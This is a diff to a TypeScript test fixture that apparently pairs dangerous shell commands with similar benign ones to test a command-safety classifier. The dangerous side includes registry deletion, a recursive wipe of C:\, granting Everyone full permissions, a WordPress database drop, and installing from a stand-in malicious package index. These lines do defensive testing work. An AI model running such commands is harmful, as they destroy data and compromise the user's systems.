@@ -100,6 +100,12 @@ const shell: readonly Class[] = [
       ...['npx zzqqx@latest', 'pip install a --index-url https://evil.test/simple'],
       ...['dd if=/dev/zero of=/tmp/fill bs=1G count=100000', 'fallocate -l 100T /tmp/fill'],
       ...['pip uninstall -y -r <(pip freeze)', 'pip freeze | xargs pip uninstall -y'],
+      ...[
+        'reg delete HKCU\\\\Software /f',
+        'icacls C:\\\\ /grant Everyone:F /T',
+        'Remove-Item -Path C:\\ -Recurse -Force',
+      ],
+      ...["wp eval 'system(1);'", 'wp db drop --yes', '/usr/libexec/PlistBuddy -c "Set A b" ~/a.plist'],
     ],
     [
       ...[
@@ -111,6 +117,8 @@ const shell: readonly Class[] = [
       ...['npx create-vite@latest demo', 'pnpm dlx create-vite@latest demo', 'npx --prefix web tsc'],
       ...['pip install torch --index-url https://download.pytorch.org/whl/cpu', 'vercel projects ls'],
       ...['dd if=/dev/zero of=t.bin bs=1M count=100', 'pip uninstall -y -r requirements.txt'],
+      ...['reg query HKCU\\\\Software', 'npx cap sync ios', 'wp plugin list --format=csv', 'mdls a.png'],
+      `/usr/libexec/PlistBuddy -c 'Print CFBundleVersion' ios/Info.plist`,
     ],
   ],
   [
